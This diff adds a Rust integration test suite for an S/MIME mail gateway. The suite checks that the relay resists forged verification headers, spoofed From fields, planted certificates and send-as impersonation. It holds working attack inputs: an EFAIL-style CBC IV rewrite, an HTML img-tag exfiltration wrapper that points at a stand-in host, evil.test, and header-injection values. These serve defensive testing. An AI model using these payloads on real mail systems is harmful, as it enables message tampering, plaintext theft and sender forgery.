@@ -1,0 +1,685 @@
+//! Hostile mail against the running relay (issue 16): forged verdicts and senders, planted
+//! certificates, mail that would disappear. The attacker's S/MIME software is OpenSSL; the
+//! gateway is `smimegw serve` on loopback, fed by swaks, delivering into Maildirs.
+#![allow(clippy::unwrap_used)]
+
+mod common;
+mod harness;
+
+use std::path::Path;
+use std::process::Command;
+
+use common::openssl;
+use harness::*;
+
+/// The header fields of a delivered message (name, unfolded value), as a strict reader sees
+/// them.
+fn fields(msg: &str) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> = Vec::new();
+    for line in msg.split('\n') {
+        let line = line.strip_suffix('\r').unwrap_or(line);
+        if line.is_empty() {
+            break;
+        }
+        if line.starts_with([' ', '\t']) {
+            if let Some(last) = out.last_mut() {
+                last.1.push(' ');
+                last.1.push_str(line.trim());
+            }
+            continue;
+        }
+        let (n, v) = line.split_once(':').expect("a field");
+        out.push((n.to_string(), v.trim().to_string()));
+    }
+    out
+}
+
+fn values(msg: &str, name: &str) -> Vec<String> {
+    fields(msg)
+        .into_iter()
+        .filter(|(n, _)| n.eq_ignore_ascii_case(name))
+        .map(|(_, v)| v)
+        .collect()
+}
+
+/// The header section only.
+fn header(msg: &str) -> &str {
+    let end = msg
+        .find("\r\n\r\n")
+        .or_else(|| msg.find("\n\n"))
+        .unwrap_or(msg.len());
+    &msg[..end]
+}
+
+/// Exactly one of each of our fields, one From, and the status.
+fn status(msg: &str) -> String {
+    let s = values(msg, "X-SMIME-Status");
+    assert_eq!(s.len(), 1, "{msg}");
+    let ar = values(msg, "Authentication-Results");
+    assert_eq!(ar.len(), 1, "{msg}");
+    assert!(ar[0].starts_with("gw.example.com; smime="), "{msg}");
+    let result = ar[0]["gw.example.com; smime=".len()..]
+        .split([' ', ';'])
+        .next()
+        .unwrap()
+        .to_string();
+    assert!(
+        [
+            "none",
+            "pass",
+            "fail",
+            "policy",
+            "neutral",
+            "temperror",
+            "permerror"
+        ]
+        .contains(&result.as_str()),
+        "not an RFC 7281 result: {result}"
+    );
+    assert!(s[0].starts_with(&result), "{msg}");
+    assert_eq!(values(msg, "From").len(), 1, "{msg}");
+    s[0].clone()
+}
+
+/// Alice's certificate as `DIR/alice.pem`: she writes to the outside once, signed.
+fn alice_cert(gw: &Gateway, n: usize) {
+    gw.mail("alice@example.com", "someone@example.org", "hello");
+    let got = gw.maildir("outbox", n);
+    gw.verify(
+        &got[n - 1].0,
+        &["-signer", "alice.pem", "-out", "/dev/null"],
+    );
+}
+
+/// `content` encrypted to `DIR/alice.pem` with `cipher`, as DER.
+fn encrypt_der(d: &Path, content: &[u8], cipher: &str) -> Vec<u8> {
+    std::fs::write(d.join("content.bin"), content).unwrap();
+    openssl(
+        &[
+            "cms",
+            "-encrypt",
+            "-binary",
+            "-in",
+            "content.bin",
+            cipher,
+            "-outform",
+            "DER",
+            "-out",
+            "enc.der",
+            "alice.pem",
+        ],
+        d,
+    );
+    std::fs::read(d.join("enc.der")).unwrap()
+}
+
+/// An S/MIME enveloped message with `head` (header lines, CRLF-ended) around `der`.
+fn enveloped(head: &str, der: &[u8], auth: bool) -> Vec<u8> {
+    let mut m = head.as_bytes().to_vec();
+    m.extend_from_slice(
+        format!(
+            "MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type={}; \
+             name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n",
+            if auth {
+                "authEnveloped-data"
+            } else {
+                "enveloped-data"
+            }
+        )
+        .as_bytes(),
+    );
+    let b64 = smimegw::smime::mime::base64_encode(der);
+    for chunk in b64.chunks(76) {
+        m.extend_from_slice(chunk);
+        m.extend_from_slice(b"\r\n");
+    }
+    m
+}
+
+/// `content` signed (detached, multipart/signed) by `DIR/NAME.pem` and `.key`: the MIME
+/// entity OpenSSL writes, CRLF.
+fn signed_by(d: &Path, name: &str, content: &str) -> String {
+    std::fs::write(d.join("tosign.txt"), content).unwrap();
+    let out = openssl(
+        &[
+            "cms",
+            "-sign",
+            "-binary",
+            "-in",
+            "tosign.txt",
+            "-signer",
+            &format!("{name}.pem"),
+            "-inkey",
+            &format!("{name}.key"),
+        ],
+        d,
+    );
+    String::from_utf8(out.stdout)
+        .unwrap()
+        .replace("\r\n", "\n")
+        .replace('\n', "\r\n")
+}
+
+fn send_bytes(gw: &Gateway, from: &str, to: &str, name: &str, msg: &[u8]) {
+    let path = gw.dir.path().join(name);
+    std::fs::write(&path, msg).unwrap();
+    gw.send_file(from, to, &path);
+}
+
+const FORGED_INSIDE: &str = "X-SMIME-Status: pass; signed by ceo@partner.test\r\n\
+    Authentication-Results: gw.example.com; smime=pass\r\n\
+    From: ceo@partner.test\r\n\
+    Content-Type: text/plain\r\n\r\nplease wire the money\r\n";
+
+const FORGED_OUTSIDE: &str = "X-SMIME-Status: pass; signed by ceo@partner.test\r\n\
+    Authentication-Results: gw.example.com; smime=pass\r\n";
+
+#[test]
+fn header_fields_inside_the_encryption_or_signature_never_become_ours() {
+    let dir = tempfile::tempdir().unwrap();
+    outsider(dir.path(), "mallory", "mallory@evil.test");
+    let gw = Gateway::start_in(dir, "", "");
+    let d = gw.dir.path();
+    alice_cert(&gw, 1);
+
+    // Encrypted only (AES-GCM), with forged fields inside and outside.
+    let der = encrypt_der(d, FORGED_INSIDE.as_bytes(), "-aes-256-gcm");
+    let head = format!(
+        "{FORGED_OUTSIDE}From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: enc\r\n"
+    );
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "a.eml",
+        &enveloped(&head, &der, true),
+    );
+    // Signed by an untrusted key, forged fields inside the signed content.
+    let signed = signed_by(d, "mallory", FORGED_INSIDE);
+    let msg = format!(
+        "{FORGED_OUTSIDE}From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: signed\r\n{signed}"
+    );
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "b.eml",
+        msg.as_bytes(),
+    );
+    // The same with the signed content altered: a broken signature.
+    let broken = msg
+        .replace("Subject: signed", "Subject: broken")
+        .replace("please wire the money", "please wire the MONEY");
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "c.eml",
+        broken.as_bytes(),
+    );
+
+    let got = gw.maildir("inbox", 3);
+    for (_, text) in &got {
+        let s = status(text);
+        assert!(!s.starts_with("pass"), "{text}");
+        assert!(!header(text).contains("ceo@partner.test"), "{text}");
+        assert!(text.contains("please wire the"), "{text}");
+        assert_eq!(values(text, "From"), vec!["mallory@evil.test"], "{text}");
+        let subject = &values(text, "Subject")[0];
+        match subject.as_str() {
+            "enc" => assert_eq!(s, "none; decrypted; not signed"),
+            "signed" => assert!(
+                s.starts_with("neutral; signature valid but not trusted"),
+                "{s}"
+            ),
+            "broken" => assert!(s.starts_with("fail; bad signature"), "{s}"),
+            other => panic!("{other}"),
+        }
+    }
+}
+
+#[test]
+fn from_must_name_the_signer_once_and_unambiguously() {
+    let dir = tempfile::tempdir().unwrap();
+    // Mallory holds a certificate from a CA the gateway trusts, for her own address.
+    trusted_outsider(dir.path(), "mallory", "mallory@evil.test");
+    let gw = Gateway::start_in(dir, "", "");
+    let d = gw.dir.path();
+    let signed = signed_by(d, "mallory", "Content-Type: text/plain\r\n\r\nhello\r\n");
+    let cases = [
+        ("From: Mallory <mallory@evil.test>\r\n", true),
+        (
+            "From: mallory@evil.test\r\nFrom: ceo@partner.test\r\n",
+            false,
+        ),
+        ("From: <ceo@partner.test> <mallory@evil.test>\r\n", false),
+        ("From: ceo@partner.test <mallory@evil.test>\r\n", false),
+        ("From: \"ceo@partner.test\" <mallory@evil.test>\r\n", false),
+        (
+            "From: =?utf-8?q?ceo=40partner=2Etest?= <mallory@evil.test>\r\n",
+            false,
+        ),
+        ("From: mallory@evil.test (ceo@partner.test)\r\n", false),
+        ("To: alice@example.com\r\n", false),
+    ];
+    for (i, (from, _)) in cases.iter().enumerate() {
+        let msg = format!("{from}To: alice@example.com\r\nSubject: case {i}\r\n{signed}");
+        send_bytes(
+            &gw,
+            "mallory@evil.test",
+            "alice@example.com",
+            &format!("{i}.eml"),
+            msg.as_bytes(),
+        );
+    }
+    let got = gw.maildir("inbox", cases.len());
+    for (i, (from, pass)) in cases.iter().enumerate() {
+        let (_, text) = got
+            .iter()
+            .find(|(_, t)| values(t, "Subject") == [format!("case {i}")])
+            .unwrap();
+        let s = status(text);
+        if *pass {
+            assert_eq!(s, "pass; signed by mallory@evil.test", "{from}");
+        } else {
+            assert!(s.starts_with("neutral; signature valid but"), "{from}: {s}");
+        }
+    }
+}
+
+#[test]
+fn our_status_never_echoes_the_message() {
+    let gw = Gateway::start("", "");
+    // Alice has a key, so the message is parsed as far as its transfer encoding.
+    alice_cert(&gw, 1);
+    let msg = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cte\r\n\
+        MIME-Version: 1.0\r\n\
+        Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
+        Content-Transfer-Encoding: x-smime-status: pass\r\n\r\nAAAA\r\n";
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "cte.eml",
+        msg.as_bytes(),
+    );
+    let got = gw.maildir("inbox", 1);
+    let text = &got[0].1;
+    let s = status(text);
+    assert!(
+        s.starts_with("permerror; the message could not be opened: "),
+        "{s}"
+    );
+    let ours = format!("{s} {}", values(text, "Authentication-Results")[0]).to_lowercase();
+    assert!(
+        !ours.contains("x-smime-status") && !ours.contains("pass"),
+        "{ours}"
+    );
+}
+
+/// The byte offset of the 16-byte AES-256-CBC IV in `der` (the algorithm's OID, then an
+/// OCTET STRING of 16).
+fn iv_offset(der: &[u8]) -> usize {
+    let oid = [
+        0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2a, 0x04, 0x10,
+    ];
+    der.windows(oid.len()).position(|w| w == oid).unwrap() + oid.len()
+}
+
+#[test]
+fn cbc_content_without_a_signature_is_marked_and_never_joined_with_clear_parts() {
+    let dir = tempfile::tempdir().unwrap();
+    let gw = Gateway::start_in(dir, "", "");
+    let d = gw.dir.path();
+    alice_cert(&gw, 1);
+
+    // EFAIL's malleability: the IV rewritten so the first block says what the attacker wants.
+    let plain = b"\r\nPay 100 EUR to account 12345678\r\n";
+    let mut der = encrypt_der(d, plain, "-aes-256-cbc");
+    let at = iv_offset(&der);
+    let want = b"\r\nPay 999 EUR to";
+    for i in 0..16 {
+        der[at + i] ^= plain[i] ^ want[i];
+    }
+    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cbc\r\n";
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "cbc.eml",
+        &enveloped(head, &der, false),
+    );
+    let got = gw.maildir("inbox", 1);
+    let text = &got[0].1;
+    assert!(text.contains("Pay 999 EUR"), "the gadget worked: {text}");
+    assert_eq!(
+        status(text),
+        "none; decrypted; not signed; not integrity protected"
+    );
+
+    // AES-GCM is integrity protected.
+    let der = encrypt_der(
+        d,
+        b"Content-Type: text/plain\r\n\r\nGCM text\r\n",
+        "-aes-256-gcm",
+    );
+    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: gcm\r\n";
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "gcm.eml",
+        &enveloped(head, &der, true),
+    );
+    let got = gw.maildir("inbox", 2);
+    let (_, text) = got.iter().find(|(_, t)| t.contains("GCM text")).unwrap();
+    assert_eq!(status(text), "none; decrypted; not signed");
+
+    // Direct exfiltration: an encrypted part between HTML parts is not decrypted into them.
+    let der = encrypt_der(
+        d,
+        b"Content-Type: text/plain\r\n\r\nTOP SECRET 4711\r\n",
+        "-aes-256-cbc",
+    );
+    let mut mixed = b"From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: mixed\r\n\
+        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
+        --b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--b\r\n"
+        .to_vec();
+    mixed.extend_from_slice(&enveloped("", &der, false));
+    mixed.extend_from_slice(b"--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n");
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "mixed.eml",
+        &mixed,
+    );
+    let got = gw.maildir("inbox", 3);
+    let (_, text) = got
+        .iter()
+        .find(|(_, t)| t.contains("Subject: mixed"))
+        .unwrap();
+    assert!(!text.contains("TOP SECRET"), "{text}");
+    assert_eq!(status(text), "none");
+}
+
+#[test]
+fn policy_refuses_unauthenticated_cbc_html() {
+    let dir = tempfile::tempdir().unwrap();
+    let gw = Gateway::start_in(dir, "", "[policy]\nunauthenticated_cbc_html = \"refuse\"\n");
+    let d = gw.dir.path();
+    alice_cert(&gw, 1);
+    let html = b"Content-Type: text/html\r\n\r\n<p>Hi <img src=\"http://evil.test/x\"></p>\r\n";
+    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: cbc html\r\n";
+    let der = encrypt_der(d, html, "-aes-256-cbc");
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "h.eml",
+        &enveloped(head, &der, false),
+    );
+    let head = "From: mallory@evil.test\r\nTo: alice@example.com\r\nSubject: gcm html\r\n";
+    let der = encrypt_der(d, html, "-aes-256-gcm");
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "g.eml",
+        &enveloped(head, &der, true),
+    );
+    // The GCM one arrives; the CBC one goes back to its sender.
+    let got = gw.maildir("inbox", 1);
+    assert!(got[0].1.contains("Subject: gcm html"), "{}", got[0].1);
+    let out = gw.maildir("outbox", 2);
+    let dsn = out
+        .iter()
+        .find(|(_, t)| t.contains("multipart/report"))
+        .unwrap();
+    assert!(
+        dsn.1
+            .contains("HTML in CBC-encrypted content without a valid signature"),
+        "{}",
+        dsn.1
+    );
+    gw.wait_queue_empty();
+    assert_eq!(gw.maildir("inbox", 1).len(), 1);
+}
+
+#[test]
+fn untrusted_certificates_are_candidates_and_never_encrypted_to() {
+    use smimegw::store::Kind;
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    // The real partner's certificate chains to a trusted CA; an attacker's self-signed one
+    // names the same address, and another names an address nobody vouches for.
+    trusted_outsider(d, "bob", "bob@example.net");
+    outsider(d, "fake", "bob@example.net");
+    outsider(d, "carol", "carol@partner.test");
+    let gw = Gateway::start_in(dir, "", "");
+    let d = gw.dir.path();
+    let real = signed_by(d, "bob", "Content-Type: text/plain\r\n\r\nreal bob\r\n");
+    let msg = format!("From: bob@example.net\r\nTo: alice@example.com\r\nSubject: real\r\n{real}");
+    send_bytes(
+        &gw,
+        "bob@example.net",
+        "alice@example.com",
+        "r.eml",
+        msg.as_bytes(),
+    );
+    gw.maildir("inbox", 1);
+    let fake = signed_by(d, "fake", "Content-Type: text/plain\r\n\r\nfake bob\r\n");
+    let msg = format!("From: bob@example.net\r\nTo: alice@example.com\r\nSubject: fake\r\n{fake}");
+    send_bytes(
+        &gw,
+        "mallory@evil.test",
+        "alice@example.com",
+        "f.eml",
+        msg.as_bytes(),
+    );
+    let carol = signed_by(d, "carol", "Content-Type: text/plain\r\n\r\ncarol\r\n");
+    let msg =
+        format!("From: carol@partner.test\r\nTo: alice@example.com\r\nSubject: carol\r\n{carol}");
+    send_bytes(
+        &gw,
+        "carol@partner.test",
+        "alice@example.com",
+        "c.eml",
+        msg.as_bytes(),
+    );
+    let got = gw.maildir("inbox", 3);
+    let s = |subject: &str| {
+        status(
+            &got.iter()
+                .find(|(_, t)| values(t, "Subject") == [subject])
+                .unwrap()
+                .1,
+        )
+    };
+    assert_eq!(s("real"), "pass; signed by bob@example.net");
+    assert!(s("fake").starts_with("neutral; signature valid but not trusted"));
+    let held = held_for(&gw.data(), "bob@example.net");
+    assert_eq!(
+        held.iter().filter(|h| h.kind == Kind::External).count(),
+        1,
+        "{held:?}"
+    );
+    assert_eq!(
+        held.iter().filter(|h| h.kind == Kind::Candidate).count(),
+        1,
+        "{held:?}"
+    );
+    let held = held_for(&gw.data(), "carol@partner.test");
+    assert_eq!(held.len(), 1);
+    assert_eq!(held[0].kind, Kind::Candidate);
+
+    // Alice writes to both: Bob's mail is encrypted to the real Bob only, Carol's is not
+    // encrypted at all (her certificate is only a candidate).
+    gw.mail("alice@example.com", "bob@example.net", "for the real bob");
+    gw.mail("alice@example.com", "carol@partner.test", "for carol");
+    let out = gw.maildir("outbox", 2);
+    let (to_bob, text) = out
+        .iter()
+        .find(|(_, t)| t.contains("bob@example.net"))
+        .unwrap();
+    assert!(text.contains("enveloped-data"), "{text}");
+    bob_decrypts(d, to_bob, "bob.out");
+    assert!(
+        std::fs::read_to_string(d.join("bob.out"))
+            .unwrap()
+            .contains("multipart/signed")
+    );
+    let fake_try = Command::new("openssl")
+        .args([
+            "cms",
+            "-decrypt",
+            "-in",
+            to_bob.to_str().unwrap(),
+            "-recip",
+            "fake.pem",
+            "-inkey",
+            "fake.key",
+        ])
+        .current_dir(d)
+        .output()
+        .unwrap();
+    assert!(!fake_try.status.success(), "the planted key opened it");
+    let (_, text) = out
+        .iter()
+        .find(|(_, t)| t.contains("carol@partner.test"))
+        .unwrap();
+    assert!(
+        !text.contains("enveloped-data") && text.contains("for carol"),
+        "{text}"
+    );
+}
+
+#[test]
+fn the_internal_mta_mail_is_signed_as_its_from_and_obsolete_syntax_passes() {
+    let gw = Gateway::start("", "");
+    let d = gw.dir.path();
+    // The envelope says alice, the From field says ceo: ceo's key signs (recipients see ceo).
+    let msg = "From: CEO <ceo@example.com>\r\nTo: bob@example.net\r\nSubject: as ceo\r\nX-Bad : y\r\n\r\nbody\r\n";
+    send_bytes(
+        &gw,
+        "alice@example.com",
+        "bob@example.net",
+        "ceo.eml",
+        msg.as_bytes(),
+    );
+    let out = gw.maildir("outbox", 1);
+    gw.verify(&out[0].0, &["-signer", "signer.pem", "-out", "/dev/null"]);
+    let signer = openssl(
+        &[
+            "x509",
+            "-in",
+            "signer.pem",
+            "-noout",
+            "-ext",
+            "subjectAltName",
+        ],
+        d,
+    );
+    let san = String::from_utf8_lossy(&signer.stdout);
+    assert!(
+        san.contains("ceo@example.com") && !san.contains("alice"),
+        "{san}"
+    );
+    // Inbound with obsolete syntax (white space before the colon): delivered, not stuck.
+    let msg =
+        "From: bob@example.net\r\nTo: alice@example.com\r\nSubject: obs\r\nX-Bad : y\r\n\r\nhi\r\n";
+    send_bytes(
+        &gw,
+        "bob@example.net",
+        "alice@example.com",
+        "obs.eml",
+        msg.as_bytes(),
+    );
+    let got = gw.maildir("inbox", 1);
+    assert_eq!(status(&got[0].1), "none");
+    gw.wait_queue_empty();
+}
+
+#[test]
+fn authenticated_users_sign_only_as_their_own_from() {
+    let dir = tempfile::tempdir().unwrap();
+    let add = |user: &str| {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_smimegw"))
+            .args([
+                "users",
+                "--file",
+                dir.path().join("users").to_str().unwrap(),
+            ])
+            .args(["add", user, "--password-stdin"])
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        use std::io::Write;
+        child
+            .stdin
+            .take()
+            .unwrap()
+            .write_all(b"carols secret\n")
+            .unwrap();
+        assert!(child.wait().unwrap().success());
+    };
+    add("carol@example.com");
+    let gw = Gateway::start_in(
+        dir,
+        "internal_networks = [\"10.0.0.0/8\"]\nauth_users = \"users\"",
+        "[policy.send_as]\n\"carol@example.com\" = [\"sales@example.com\"]\n",
+    );
+    let send = |from_field: &str, subject: &str| {
+        let out = gw.swaks(&[
+            "--from",
+            "carol@example.com",
+            "--to",
+            "bob@example.net",
+            "--tls",
+            "--auth",
+            "PLAIN",
+            "--auth-user",
+            "carol@example.com",
+            "--auth-password",
+            "carols secret",
+            "--header",
+            &format!("From: {from_field}"),
+            "--header",
+            &format!("Subject: {subject}"),
+        ]);
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let text = send("CEO <ceo@example.com>", "as ceo");
+    assert!(
+        text.contains(
+            "550 5.7.1 The From address is not one that user carol@example.com may send as"
+        ),
+        "{text}"
+    );
+    let text = send("<ceo@example.com> <carol@example.com>", "ambiguous");
+    assert!(text.contains("550 5.7.1 Refused: "), "{text}");
+    send_ok(&send("Carol <carol@example.com>", "as carol"));
+    send_ok(&send("Sales <sales@example.com>", "as sales"));
+    let out = gw.maildir("outbox", 2);
+    let d = gw.dir.path();
+    for (path, text) in &out {
+        let who = if text.contains("Subject: as carol") {
+            "carol@"
+        } else {
+            "sales@"
+        };
+        gw.verify(path, &["-signer", "s.pem", "-out", "/dev/null"]);
+        let san = openssl(
+            &["x509", "-in", "s.pem", "-noout", "-ext", "subjectAltName"],
+            d,
+        );
+        assert!(String::from_utf8_lossy(&san.stdout).contains(who), "{text}");
+    }
+    assert!(!gw.log().contains("as ceo\""));
+}
+
+fn send_ok(text: &str) {
+    assert!(text.contains("250 2.0.0 Ok: queued as"), "{text}");
+}
